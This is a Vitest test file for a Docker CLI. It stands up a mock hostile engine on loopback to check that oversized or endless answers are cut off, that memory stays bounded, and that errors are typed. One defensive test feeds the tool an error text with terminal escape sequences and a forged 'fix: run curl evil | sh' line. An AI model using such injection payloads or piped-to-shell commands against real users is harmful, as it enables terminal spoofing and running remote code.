import fc from 'fast-check';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DockerodeEngine } from '../../../src/docker/dockerode-engine.js';
import { MAX_ENGINE_ANSWER_BYTES } from '../../../src/docker/bounded-answers.js';
import { startCli } from '../../helpers/cli-process.js';

/**
 * A hostile engine on a loopback port: it answers every call with what the test chooses — an
 * endless body, a huge error, garbage. Every answer the tool buffers must be bounded (the red
 * team's endless image inspect took 7.4 GB); the CLI's peak RSS is read from the process itself
 * (process.resourceUsage at exit, through a preloaded script).
 */

type Handler = (req: IncomingMessage, res: ServerResponse) => void;
let handler: Handler = (_req, res) => res.end('{}');
let server: Server;
let port: number;
let work: string;

/** Writes 1 MiB chunks for as long as the client reads (at most 4 GiB). */
function endless(res: ServerResponse, status = 200): void {
  res.writeHead(status, { 'Content-Type': 'application/json' });
  const chunk = Buffer.alloc(1 << 20, 0x20);
  let sent = 0;
  const pump = () => {
    while (sent < 4096) {
      sent++;
      if (!res.write(chunk)) return void res.once('drain', pump);
    }
    res.end();
  };
  res.write('{"Id":"');
  pump();
}

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'pb-hostile-engine-'));
  await writeFile(join(work, 'maxrss.cjs'), "process.on('exit', () => require('fs').writeSync(2, `\\nMAXRSS_KB=${process.resourceUsage().maxRSS}\\n`));\n");
  server = createServer((req, res) => {
    res.on('error', () => undefined);
    if (req.url?.endsWith('/_ping')) return void res.end('OK');
    handler(req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as { port: number }).port;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
  await rm(work, { recursive: true, force: true });
});

const engineHere = () => DockerodeEngine.fromEnv({ DOCKER_HOST: `tcp://127.0.0.1:${port}` }, { requestMs: 20_000 });

describe('answers of a hostile engine are bounded in one place', () => {
  it('an endless JSON answer (image inspect) is cut at the bound: ENGINE_LOST, memory bounded', async () => {
    handler = (_req, res) => endless(res);
    const before = process.memoryUsage().rss;
    const started = Date.now();
    const err = await engineHere().inspectImage('any:thing').then(() => null, (e: unknown) => e as Error & { code?: string });
    expect(err?.code).toBe('ENGINE_LOST');
    expect(err?.message).toContain(`exceeded ${MAX_ENGINE_ANSWER_BYTES} bytes`);
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(process.memoryUsage().rss - before).toBeLessThan(4 * MAX_ENGINE_ANSWER_BYTES);
  });

  it('an endless error body on a streaming call (image pull) is cut too', async () => {
    handler = (_req, res) => endless(res, 500);
    const err = await engineHere().pullImage('127.0.0.1:5999/x:y', () => undefined).then(() => null, (e: unknown) => e as Error & { code?: string });
    expect(err?.code).toBe('ENGINE_LOST');
    expect(err?.message).toContain('exceeded');
  });

  it('a pull whose progress stream is one endless line (no newline) is cut too, memory bounded', async () => {
    handler = (_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      const chunk = Buffer.alloc(1 << 20, 0x61);
      let sent = 0;
      const pump = () => {
        while (sent++ < 4096) if (!res.write(chunk)) return void res.once('drain', pump);
        res.end();
      };
      pump();
    };
    const before = process.memoryUsage().rss;
    const err = await engineHere().pullImage('127.0.0.1:5999/x:y', () => undefined).then(() => null, (e: unknown) => e as Error & { code?: string });
    expect(err?.code).toBe('ENGINE_LOST');
    expect(err?.message).toContain(`exceeded ${MAX_ENGINE_ANSWER_BYTES} bytes`);
    expect(process.memoryUsage().rss - before).toBeLessThan(8 * MAX_ENGINE_ANSWER_BYTES);
  });

  it('answers within the bound still work (a 1 MiB inspect answer is read whole)', async () => {
    const big = JSON.stringify({ Id: 'sha256:' + 'a'.repeat(64), Architecture: 'amd64', Os: 'linux', RepoDigests: [], Config: { Labels: { pad: 'x'.repeat(1 << 20) }, Env: [], Cmd: null } });
    handler = (_req, res) => res.writeHead(200, { 'Content-Type': 'application/json' }).end(big);
    const info = await engineHere().inspectImage('any:thing');
    expect(info?.id).toBe('sha256:' + 'a'.repeat(64));
  });

  it('the CLI (`builder env --image`) against an endless engine: ENGINE_LOST in seconds, peak RSS far below 1 GiB', async () => {
    handler = (_req, res) => endless(res);
    const run = startCli(work, ['env', '--image', 'any:thing', '--json'], { DOCKER_HOST: `tcp://127.0.0.1:${port}`, NODE_OPTIONS: `--require=${join(work, 'maxrss.cjs')}`, CI: 'true' });
    const { code } = await run.exited;
    expect(code, run.stderr()).not.toBe(0);
    expect(JSON.parse(run.stdout()).error.code).toBe('ENGINE_LOST');
    const kb = Number(/MAXRSS_KB=(\d+)/.exec(run.stderr())?.[1]);
    expect(kb).toBeGreaterThan(0);
    expect(kb * 1024).toBeLessThan(400 * 2 ** 20);
  });

  it("an engine's error text cannot forge a line of the tool's own, nor reach the terminal raw", async () => {
    handler = (_req, res) => res.writeHead(500, { 'Content-Type': 'application/json' }).end(JSON.stringify({ message: 'boom\u001b]52;c;ZXZpbA==\u0007\r\nerror: FAKE \u009b2J\nfix: run curl evil | sh' }));
    const run = startCli(work, ['env', '--image', 'x'], { DOCKER_HOST: `tcp://127.0.0.1:${port}` });
    await run.exited;
    const lines = run.stderr().split('\n');
    expect(lines.filter((l) => l.startsWith('error:'))).toHaveLength(1);
    expect(lines.filter((l) => l.startsWith('fix:'))).toHaveLength(1);
    expect(lines.some((l) => l.startsWith('fix: run curl'))).toBe(false);
    expect(run.stderr()).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(run.stderr()).toContain('boom\\x1b]52;c;ZXZpbA==\\x07\\r\\nerror: FAKE \\x9b2J');
  });

  it('fuzz: whatever status and body the engine sends, a call settles (value or typed error), never a crash or a hang', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(200, 201, 204, 304, 400, 404, 409, 500), fc.oneof(fc.string({ maxLength: 200 }), fc.constant('{"Id":'), fc.constant('null')), async (status, body) => {
        handler = (_req, res) => res.writeHead(status, { 'Content-Type': 'application/json' }).end(body);
        const outcome = await engineHere().inspectImage('x').then(() => 'value', (e: unknown) => (e as { code?: string }).code ?? 'untyped');
        expect(outcome).not.toBe('untyped');
      }),
      { numRuns: 40 },
    );
  });
});
